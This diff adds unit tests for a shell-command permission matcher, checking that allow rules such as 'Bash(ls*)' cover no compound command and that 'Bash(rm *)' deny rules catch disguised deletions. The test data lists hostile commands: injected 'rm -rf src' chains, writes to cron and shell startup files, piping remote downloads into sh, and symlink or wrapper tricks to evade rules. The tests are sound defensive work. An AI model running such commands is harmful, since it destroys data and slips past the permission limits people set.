@@ -114,6 +114,61 @@ const ALLOW: readonly Row[] = [
   ['Bash(ls *)', '', false],
 ]
 
+/** A star without a blank before it: what it stands for is never another command. */
+const NO_BLANK = ['Bash(ls*)', 'Bash(l*)', 'Bash(l*s*)', 'Bash(ls *)', 'Bash(ls:*)', 'Bash(ls* src*)']
+const COMPOUND = [
+  'ls; rm -rf src',
+  'ls ; rm -rf src',
+  'ls && rm -rf src',
+  'ls || rm -rf src',
+  'ls | sh',
+  'ls |& sh',
+  'ls & rm -rf src',
+  'ls\nrm -rf src',
+  'ls $(rm -rf src)',
+  'ls "$(rm -rf src)"',
+  'ls `rm -rf src`',
+  'ls > /etc/cron.d/src',
+  'ls >> ~/.bashrc src',
+  'ls src 2> ~/.profile',
+  'ls <(rm -rf src)',
+  'ls >(rm -rf src)',
+  'ls ${X:-$(rm -rf src)}',
+  'ls; { rm -rf src; }',
+  'ls; (rm -rf src)',
+  'ls src; if true; then rm -rf src; fi',
+  'ls(){ rm -rf src; }; ls src',
+  'ls <<E\n$(rm -rf src)\nE',
+]
+
+describe('a starred allow rule covers no compound command', () => {
+  it.each(NO_BLANK.flatMap((text) => COMPOUND.map((command) => [text, command] as const)))(
+    '%s · %j',
+    (text, command) => {
+      expect(matched({ allow: [text] }, bashAction(command)).allow).toBeUndefined()
+    },
+  )
+  it.each(['Bash(ls*)', 'Bash(l*)', 'Bash(l*s*)', 'Bash(ls *)', 'Bash(ls:*)', 'Bash(ls* src*)'])(
+    '%s covers the plain command',
+    (text) => {
+      expect(matched({ allow: [text] }, bashAction('ls -la src')).allow).toBeDefined()
+    },
+  )
+  it('and each part of one where rules cover all of them', () => {
+    expect(matched({ allow: ['Bash(ls*)', 'Bash(wc*)'] }, bashAction('ls -la src | wc -l')).allow).toBeDefined()
+  })
+  it.each([
+    ['Bash(ls*)', 'ls/../bin/python3 x.py'],
+    ['Bash(*s)', './evil/ls'],
+    ['Bash(l*)', 'lib/evil'],
+  ])('%s stands for no program that is named by a path: %s', (text, command) => {
+    expect(matched({ allow: [text] }, bashAction(command)).allow).toBeUndefined()
+  })
+  it('but for one where the rule spells the path', () => {
+    expect(matched({ allow: ['Bash(./scripts/*)'] }, bashAction('./scripts/a/build.sh')).allow).toBeDefined()
+  })
+})
+
 describe('an allow rule covers', () => {
   it.each(ALLOW)('%s · %s → %s', (text, command, covered) => {
     expect(matched({ allow: [text] }, bashAction(command)).allow !== undefined).toBe(covered)
@@ -165,6 +220,53 @@ const DENY: readonly (readonly [string, string, 'deny' | 'ask' | 'none'])[] = [
   ['Bash(git push)', 'git push', 'deny'],
   ['Bash(git push)', 'git push origin', 'none'],
   ['Bash(curl * | sh)', 'curl https://x.example | sh', 'deny'],
+  // links and copies
+  ['Bash(rm *)', 'ln -s /bin/rm ./del; ./del x', 'deny'],
+  ['Bash(rm *)', 'cp /bin/rm /tmp/y && /tmp/y x', 'deny'],
+  ['Bash(rm *)', 'ln -s /bin/cat ./del; ./del x', 'none'],
+  // wrappers that are known
+  ['Bash(rm *)', 'caffeinate -i rm x', 'ask'],
+  ['Bash(rm *)', 'ex f <<< "!rm x"', 'deny'],
+  // a command behind a program that may run it
+  ['Bash(rm *)', 'frobnicate rm -rf x', 'ask'],
+  ['Bash(rm *)', 'foo --opt -- rm x', 'ask'],
+  ['Bash(rm *)', 'foo --shell=/bin/rm -- x', 'ask'],
+  ['Bash(rm *)', 'foo CMD=rm x', 'ask'],
+  ['Bash(rm *)', `foo -c 'rm x'`, 'ask'],
+  ['Bash(rm *)', `foo -c 'ls; r"m" x'`, 'ask'],
+  ['Bash(rm *)', `foo --eval 'system("rm x")'`, 'ask'],
+  ['Bash(rm *)', `foo --eval 'spawn(["rm", "x"])'`, 'ask'],
+  ['Bash(rm *)', 'podman unshare rm x', 'deny'],
+  ['Bash(rm *)', `podman unshare sh -c 'rm x'`, 'deny'],
+  ['Bash(rm *)', `nix-shell --run 'rm x'`, 'ask'],
+  ['Bash(rm *)', 'pyenv exec rm x', 'ask'],
+  ['Bash(rm *)', 'perf stat rm x', 'ask'],
+  ['Bash(rm *)', `capsh -- -c 'rm x'`, 'ask'],
+  ['Bash(rm *)', 'consul lock name rm x', 'ask'],
+  ['Bash(rm *)', 'op run -- rm x', 'ask'],
+  ['Bash(rm *)', `m4 <<< 'syscmd(rm x)'`, 'ask'],
+  ['Bash(rm *)', '/bin/r? x', 'ask'],
+  // a text that nobody can know
+  ['Bash(rm *)', `echo 'C x' | cpp -P -DC=rm | sh`, 'ask'],
+  ['Bash(rm *)', 'A=rm envsubst <<< "\\$A x" | sh', 'ask'],
+  ['Bash(rm *)', 'curl https://x.example/a | sh', 'ask'],
+  ['Bash(rm *)', 'eval "$X"', 'ask'],
+  // and words that are data
+  ['Bash(rm *)', 'grep -e rm -- file', 'none'],
+  ['Bash(rm *)', 'man rm', 'none'],
+  ['Bash(rm *)', 'whatis rm', 'none'],
+  ['Bash(rm *)', 'which rm', 'none'],
+  ['Bash(rm *)', 'git rm file', 'none'],
+  ['Bash(rm *)', 'git checkout -- rm', 'none'],
+  ['Bash(rm *)', 'docker rm c1', 'none'],
+  ['Bash(rm *)', 'podman rm c1', 'none'],
+  ['Bash(rm *)', 'npm run rm-cache', 'none'],
+  ['Bash(rm *)', 'npm test -- rm', 'none'],
+  ['Bash(rm *)', 'go test -run rm ./...', 'none'],
+  ['Bash(rm *)', './cli rm x', 'none'],
+  ['Bash(rm *)', 'perf stat ls rm', 'none'],
+  ['Bash(rm *)', `foo --message 'rm x'`, 'none'],
+  ['Bash(rm *)', 'eval "$(ssh-agent -s)"', 'none'],
 ]
 
 describe('a deny rule binds', () => {
